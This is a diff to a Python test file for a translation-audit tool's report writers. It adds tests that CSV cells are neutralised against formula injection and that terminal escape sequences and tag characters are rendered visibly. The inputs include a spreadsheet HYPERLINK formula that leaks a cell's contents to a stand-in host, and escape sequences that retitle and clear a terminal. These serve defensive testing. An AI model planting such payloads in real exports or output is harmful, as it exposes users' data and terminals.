@@ -6,8 +6,17 @@ import json
 import pytest
 from lxml import etree
 
-from audit.core.model import AuditResult, Flag, Pair, PairResult, Severity, Span, fingerprint
+from audit.core.model import (
+    AuditResult,
+    Flag,
+    Pair,
+    PairResult,
+    Severity,
+    Span,
+    fingerprint,
+)
 from audit.outputs import atomic_write, write_report
+from audit.outputs.cells import FORMULA_START, unquote_cell
 from audit.outputs.pieces import pieces
 
 NASTY = "Click <script>alert(1)</script> [bold]now[/bold] \x1b[31mred\x1b[0m \u202eevil & more"
@@ -99,13 +108,48 @@ def test_csv_one_row_per_flag_with_exact_text():
     for row in rows:
         seg = next(s for s in res.segments if s.pair.id == row["segment_id"])
         side = row["side"]
-        assert row["text"] == seg.pair.text(side)[int(row["start"]):int(row["end"])]
+        assert unquote_cell(row["text"]) == seg.pair.text(side)[int(row["start"]):int(row["end"])]
+
+
+@pytest.mark.parametrize("evil", ['=HYPERLINK("http://x.test/?leak="&A1,"click")', "+1+2", "-2+3", "@SUM(A1)",
+                                  "\t=1", "\r=1"])
+def test_csv_cells_never_start_a_formula(evil):
+    """CSV injection: text that a spreadsheet would run as a formula is neutralised in every cell,
+    and ``unquote_cell`` gives the exact text back."""
+    p = Pair(evil, evil, evil, source_lang="es", target_lang="en", index=0)
+    f = make_flag(p, "NUM003", Severity.MAJOR, [Span("target", 0, len(evil))], evil)
+    res = AuditResult((PairResult(p, (f,)),), "es", "en", "transaudit:test", {})
+    buf = io.StringIO()
+    write_report(res, "csv", stream=buf)
+    rows = list(csv.reader(io.StringIO(buf.getvalue(), newline="")))
+    for value in rows[1]:
+        assert not value.startswith(FORMULA_START)
+    row = dict(zip(rows[0], rows[1]))
+    for col in ("segment_id", "message", "text", "source", "target"):
+        assert unquote_cell(row[col]) == evil
 
 
 def test_text_report_never_passes_escapes_through():
     out = render("text")
     assert "\x1b" not in out and "\u202e" not in out
     assert "⟦" in out
+
+
+def test_text_report_escapes_ids_languages_and_paths():
+    """Every field is text: an id, a language code or a file name carrying terminal escapes (a
+    title change, a screen clear) or tag characters is shown visibly, never interpreted."""
+    from audit.core.model import Origin
+
+    evil = "\x1b]0;owned\x07\x1b[2J" + "".join(chr(0xE0000 + ord(c)) for c in "hi")
+    p = Pair("id" + evil, "Hola.", "Hello" + evil, source_lang="es" + evil, target_lang="en" + evil, index=0,
+             target_origin=Origin(path="file" + evil + ".tsv", line=3))
+    f = make_flag(p, "ENC003", Severity.MAJOR, [Span("target", 5, 6)], "control" + evil)
+    res = AuditResult((PairResult(p, (f,)),), "es" + evil, "en" + evil, "transaudit:test" + evil, {})
+    buf = io.StringIO()
+    write_report(res, "text", stream=buf)
+    out = buf.getvalue()
+    assert "\x1b" not in out and "\x07" not in out and "\U000E0068" not in out
+    assert "␛]0;owned␇" in out and "<U+E0068>" in out
 
 
 def test_json_contract_text_equals_slice():
